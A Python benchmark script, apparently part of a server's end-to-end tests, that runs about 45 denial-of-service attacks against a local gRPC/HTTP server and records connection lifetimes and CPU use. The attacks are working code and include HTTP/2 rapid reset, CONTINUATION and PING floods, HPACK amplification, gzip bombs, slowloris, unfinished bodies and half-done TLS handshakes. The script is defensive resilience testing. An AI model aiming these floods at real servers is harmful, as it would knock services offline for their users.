"""Those who attack the server in `scripts/bench attacks`: a process of its own, so that what it costs is told apart. It
prints a line of JSON for each thing that bench_attacks.py waits for."""

import asyncio
import contextlib
import dataclasses
import functools
import json
import pathlib
import random
import resource
import socket
import ssl
import struct
import sys
import time
import zlib
from collections.abc import Awaitable, Callable

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "Tests/EndToEnd"))

import hpack  # noqa: E402
from support.attacks import Uploader  # noqa: E402
from support.wire import PREFACE, frame, http2_frame  # noqa: E402

HEALTHZ = "/zitadel.management.v1.ManagementService/Healthz"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
WATCH = "/grpc.health.v1.Health/Watch"
VERIFY = "/ui/v2/login/verify"
SCHEMA = b"\x22\x27zitadel.management.v1.ManagementService"
"""A question of reflection: the file that holds the symbol."""
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
MIB = 1 << 20
ESTABLISHED = 1


class Peer:
    """One connection of an attacker's."""

    def __init__(self, plain):
        self.socket = plain
        self.loop = asyncio.get_running_loop()

    async def send(self, data):
        await self.loop.sock_sendall(self.socket, data)

    async def read(self):
        """Throws away whatever comes, to the end."""
        while await self.loop.sock_recv(self.socket, 1 << 16):
            pass

    async def repeat(self, data, pause=0):
        """Sends this again and again, and reads nothing unless asked to."""
        while True:
            await self.send(data)
            await asyncio.sleep(pause)

    async def over(self):
        """Waits until the server has ended the connection, without reading what it said."""
        while self.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED:
            await asyncio.sleep(0.1)

    async def flood(self, data):
        """Sends this again and again, while what comes is read."""
        both = [asyncio.create_task(self.read()), asyncio.create_task(self.repeat(data))]
        try:
            await asyncio.wait(both, return_when=asyncio.FIRST_COMPLETED)
        finally:
            await ended(*both)


async def ended(*tasks):
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


@dataclasses.dataclass
class Attack:
    name: str
    connections: int
    life: Callable[[Peer], Awaitable]
    """What one connection does; when it returns, the connection waits for its end."""
    limit: int | None = None
    """Descriptors that the server may have at most."""
    tls: bool = False
    stays: bool = False
    """Whether connections are not ended while nobody else needs their places."""
    small: bool = False
    """Whether as little as can be is taken into the sockets."""


def head(path=HEALTHZ, *fields):
    """Of a call of gRPC, or of a GET of what is no method."""
    calls = path.startswith(("/zitadel.", "/grpc."))
    known = [(":method", "POST" if calls else "GET"), (":scheme", "http"), (":authority", "x"), (":path", path)]
    types = [("content-type", "application/grpc"), ("te", "trailers")] if calls else []
    return hpack.Encoder().encode([*known, *types, *fields], huffman=False)


def heading(stream, block, flags=0):
    """The frames of a head."""
    pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    last = len(pieces) - 1
    return b"".join(http2_frame(kind, (flags if kind == HEADERS else 0) | (END_HEADERS if number == last else 0), stream, piece)
                    for number, (kind, piece) in enumerate(zip(kinds, pieces)))  # fmt: skip


def hello(window=None):
    """The client's first bytes, with a window for each answer."""
    settings = b"" if window is None else struct.pack(">HI", 4, window)
    return PREFACE + http2_frame(SETTINGS, 0, 0, settings)


def post(path, content_type, length, *lines):
    extra = "".join(f"{line}\r\n" for line in lines)
    size = "transfer-encoding: chunked" if length is None else f"content-length: {length}"
    return f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: {content_type}\r\n{size}\r\n{extra}\r\n".encode()


def gzip_bomb(size):
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(MIB)) for _ in range(size // MIB)) + packer.flush()


def streams(block, then=lambda stream: b"", count=10_000, flags=0):
    return b"".join(heading(stream, block, flags) + then(stream) for stream in range(1, 2 * count, 2))


def flooding(data, start=hello()):
    """Says one thing, and then another without pause."""

    async def life(peer):
        await peer.send(start)
        await peer.flood(data)

    return life


def once(data):
    async def life(peer):
        await peer.send(data)
        await peer.read()

    return life


def unread(data):
    """Says this, and takes no answer."""

    async def life(peer):
        sending = asyncio.create_task(peer.send(data))
        try:
            await peer.over()
        finally:
            await ended(sending)

    return life


def trickle(start, piece, pause):
    async def life(peer):
        await peer.send(start)
        await asyncio.sleep(random.uniform(0, pause))
        both = [asyncio.create_task(peer.read()), asyncio.create_task(peer.repeat(piece, pause))]
        try:
            await asyncio.wait(both, return_when=asyncio.FIRST_COMPLETED)
        finally:
            await ended(*both)

    return life


async def uploads(peer):
    """Messages that lack their last byte, on 90 streams, as far as windows go; those that are refused begin anew."""
    uploader = Uploader(HEALTHZ, 60_000, 90, ("content-type", "application/grpc"), ("te", "trailers"))

    async def sending():
        while True:
            while data := uploader.output():
                uploader.unsent = b""
                await peer.send(data)
            await asyncio.sleep(0.01)

    task = asyncio.create_task(sending())
    try:
        while data := await peer.loop.sock_recv(peer.socket, 1 << 16):
            uploader.received(data)
    finally:
        await ended(task)


def tiny_windows():
    """Answers are taken a byte at a time."""
    question = frame(SCHEMA)
    asking = streams(head(REFLECT), lambda stream: http2_frame(DATA, END_STREAM, stream, question), count=90)
    credit = b"".join(http2_frame(WINDOW, 0, stream, b"\0\0\0\1") for stream in range(1, 181, 2))
    return flooding(credit, hello(1) + asking)


async def churn(peer):
    """The connection is reset as soon as it stands; the next one follows at once."""
    peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


@functools.cache
def unverified(protocol):
    """What a client of TLS goes by who asks for no name. To make it costs more than a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


async def handshakes(peer):
    """A whole handshake, and then the next one."""
    plain = peer.socket.dup()
    transport, _ = await peer.loop.create_connection(
        asyncio.Protocol, sock=plain, ssl=unverified("h2"), server_hostname="x")  # fmt: skip
    transport.abort()
    peer.socket.shutdown(socket.SHUT_RDWR)


def refused_streams(count=400_000):
    """Streams beyond the limit, which is never acknowledged: each is refused by a frame that is not read."""
    encoder = hpack.Encoder()
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", "x"), (":path", WATCH),
              ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
    first, again = encoder.encode(fields), encoder.encode(fields)
    return heading(1, first) + b"".join(heading(stream, again) for stream in range(3, 2 * count, 2))


def watches(block, then=b"", count=250):
    """Calls that stay open, with whatever comes with them."""
    message = lambda stream: http2_frame(DATA, 0 if then else END_STREAM, stream, frame(b""))  # noqa: E731
    tail = lambda stream: heading(stream, then, END_STREAM) if then else b""  # noqa: E731
    return hello() + streams(block, lambda stream: message(stream) + tail(stream), count=count)


def fields(size):
    """Of HPACK, so many bytes of fields that no table keeps."""
    return (b"\x00" + FIELD[:1] + b"a" + FIELD[2:]) * (size // 4_000)


CLIENT_HELLO = bytes.fromhex("16030100f8010000f40303") + bytes(100)
LARGE_HELLO = bytes.fromhex("1603013f00" "01003efc" "0303") + bytes(16_000)
LANGUAGE = "a-" * 15_000
LARGE_FIELDS = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 900) for number in range(60))
LARGE_HEAD = b"GET /debug/healthz HTTP/1.1\r\nhost: x\r\n" + LARGE_FIELDS
FIELD = b"\x01a\x7f\xa1\x1e" + b"b" * 4000
"""Of HPACK: a name of one byte, and a value of 4,000."""
PAGE = f"GET {VERIFY}?userId=1&code=2 HTTP/1.1\r\nhost: x\r\n".encode()


def bombs():
    packed = gzip_bomb(16 * MIB)
    message = frame(packed, 1)
    calls = streams(head(HEALTHZ, ("grpc-encoding", "gzip")), lambda stream: http2_frame(DATA, 0, stream, message[:16_384])
                    + http2_frame(DATA, END_STREAM, stream, message[16_384:]), count=50)  # fmt: skip
    return calls, post(HEALTHZ, "application/json", len(packed), "content-encoding: gzip") + packed


def unread_answers():
    """Requests whose answers are more than a connection has room for, over HTTP/1.1."""
    question = frame(SCHEMA) * 2
    return (post(REFLECT, "application/grpc-web+proto", len(question)) + question) * 4


def everything():
    calls, connect = bombs()
    call = heading(1, head())
    begun = hello() + http2_frame(HEADERS, 0, 1, head())
    ask = streams(head(REFLECT), lambda stream: http2_frame(DATA, 0, stream, frame(SCHEMA) * 3), count=100)
    reset = streams(head(), lambda stream: http2_frame(RESET, 0, stream, b"\0\0\0\x08"))
    # A field of the table, and 12,000 references to it, of a byte each.
    table = head() + b"\x40" + FIELD + b"\xbe" * 12_000
    return [
        Attack("A1: language tag of 30 KB in a query", 8, flooding(
            streams(head(f"{VERIFY}?userId=1&lang={LANGUAGE}"), count=200, flags=END_STREAM))),
        Attack("A1: accept-language of 30 KB", 8, flooding(
            (PAGE + f"accept-language: {LANGUAGE}\r\n\r\n".encode()) * 50, start=b"")),
        Attack("A1: forms of a megabyte of `-`", 8, once(
            post(VERIFY, "application/x-www-form-urlencoded", MIB) + b"lang=" + b"-" * (MIB - 5))),
        Attack("A2: unfinished messages, 90 streams each", 10, uploads, stays=True),
        Attack("A2: unfinished bodies over HTTP/1.1", 300, once(
            post(HEALTHZ, "application/json", 60_000) + b'"' + bytes(59_000))),
        Attack("A3: reflection, a window of 0", 40, unread(hello(0) + ask), stays=True),
        Attack("A11: silent connections", 1_100, once(b""), stays=True),
        Attack("A11: the same, 1,024 descriptors at most", 1_100, once(b""), limit=1_024, stays=True),
        Attack("rapid reset", 8, flooding(reset)),
        Attack("CONTINUATION without end", 8, flooding(http2_frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 100, begun)),
        Attack("CONTINUATION, empty", 8, flooding(http2_frame(CONTINUATION, 0, 1) * 1_000, begun)),
        Attack("SETTINGS", 8, flooding(http2_frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 1_000)),
        Attack("PING", 8, flooding(http2_frame(PING, 0, 0, bytes(8)) * 1_000)),
        Attack("PRIORITY", 8, flooding(http2_frame(PRIORITY, 0, 3, b"\0\0\0\x01\x10") * 1_000)),
        Attack("DATA, empty", 8, flooding(http2_frame(DATA, 0, 1) * 1_000, hello() + call)),
        Attack("WINDOW_UPDATE of 1", 8, flooding(http2_frame(WINDOW, 0, 1, b"\0\0\0\x01") * 1_000, hello() + call)),
        Attack("answers taken a byte at a time", 8, tiny_windows()),
        Attack("fields of 48 MB by the table", 8, flooding(streams(table, count=500, flags=END_STREAM))),
        Attack("unfinished heads of 48 KB, HTTP/2", 1_000, once(
            begun + http2_frame(CONTINUATION, 0, 1, (b"\x00" + FIELD) * 4) * 3)),
        Attack("gzip bombs, gRPC", 8, flooding(calls)),
        Attack("gzip bombs, Connect over HTTP/1.1", 8, flooding(connect * 20, start=b"")),
        Attack("slowloris: a byte of a head each second", 1_000, trickle(b"GET / HTTP/1.1\r\nhost: x\r\na: ", b"a", 1)),
        Attack("unfinished heads of 54 KB, HTTP/1.1", 1_000, once(LARGE_HEAD)),
        Attack("a byte of a body each second", 500, trickle(post(HEALTHZ, "application/json", 60_000), b" ", 1)),
        Attack("unfinished chunks", 500, once(post(HEALTHZ, "application/json", None) + b"e000\r\n" + bytes(50_000))),
        Attack("chunks of a byte with extensions", 8, flooding(
            (b"1;" + b"a" * 100 + b"\r\n \r\n") * 500, post(HEALTHZ, "application/json", None))),
        Attack("pipelining without reading", 100, unread((PAGE + b"\r\n") * 20_000), small=True),
        Attack("heads of 54 KB behind unread answers", 200, unread(
            unread_answers() + (PAGE + LARGE_FIELDS + b"\r\n") * 16), small=True),
        Attack("idle after a call", 2_000, once(b"GET /debug/healthz HTTP/1.1\r\nhost: x\r\n\r\n"), stays=True),
        Attack("connections made and reset", 50, churn),
        Attack("refused streams, unread", 8, unread(hello() + refused_streams())),
        Attack("refused streams", 8, flooding(refused_streams())),
        Attack("watches with trailers of 56 KB", 20, once(watches(head(WATCH), fields(56_000))), stays=True),
        Attack("watches with heads of 56 KB", 20, once(watches(head(WATCH) + fields(56_000))), stays=True),
        Attack("watches", 200, once(watches(head(WATCH))), stays=True),
        Attack("bodies that do not begin, heads of 56 KB", 20, once(
            hello() + streams(head() + fields(56_000), count=250)), stays=True),
        Attack("idle after 250 calls", 1_000, once(hello() + streams(
            head(), lambda stream: http2_frame(DATA, END_STREAM, stream, frame(b"")), count=250)), stays=True),
        Attack("PING between padding", 8, flooding(
            (http2_frame(PING, 0, 0, bytes(8)) + http2_frame(DATA, 8, 1, b"\0")) * 1_000, hello() + call)),
        Attack("trailers over HTTP/1.1 without end", 100, flooding(
            b"a: " + b"b" * 1_000 + b"\r\n", post(HEALTHZ, "application/json", None) + b"2\r\n{}\r\n0\r\n")),
        Attack("a chunk's size of zeros without end", 50, flooding(
            b"0" * 10_000, post(HEALTHZ, "application/json", None))),
        Attack("a chunk's extension without end", 50, flooding(
            b"a" * 10_000, post(HEALTHZ, "application/json", None) + b"1;")),
        Attack("TLS, a hello of 16 KB half done", 3_000, once(LARGE_HELLO), tls=True),
        Attack("TLS handshakes half done", 1_000, once(CLIENT_HELLO), tls=True),
        Attack("TLS handshakes without pause", 50, handshakes, tls=True),
    ]  # fmt: skip


async def connection(attack, port, told):
    """One life of a connection: how long the server let it be, nil when the attacker let go first."""
    plain = socket.socket()
    plain.setblocking(False)
    if attack.small:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
    loop = asyncio.get_running_loop()
    with contextlib.closing(plain):
        began = time.monotonic()
        try:
            await loop.sock_connect(plain, ("127.0.0.1", port))
            await attack.life(Peer(plain))
        except OSError:
            pass  # cut off
        told["lives"].append(time.monotonic() - began)


async def attacker(attack, port, until, told):
    while True:
        await connection(attack, port, told)
        if time.monotonic() >= until:
            return
        await asyncio.sleep(0.01)


async def run(attack, port, seconds, patience):
    told = {"lives": []}
    until = time.monotonic() + seconds
    tasks = [asyncio.create_task(attacker(attack, port, until, told)) for _ in range(attack.connections)]
    await asyncio.sleep(seconds)
    print(json.dumps({"pushed": True}), flush=True)
    done, waiting = await asyncio.wait(tasks, timeout=patience)
    for task in waiting:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    for task in done:
        task.result()
    used = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({"lives": sorted(told["lives"]), "left": len(waiting), "cpu": used.ru_utime + used.ru_stime}), flush=True)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    chosen = next(attack for attack in everything() if attack.name == sys.argv[1])
    asyncio.run(run(chosen, int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])))
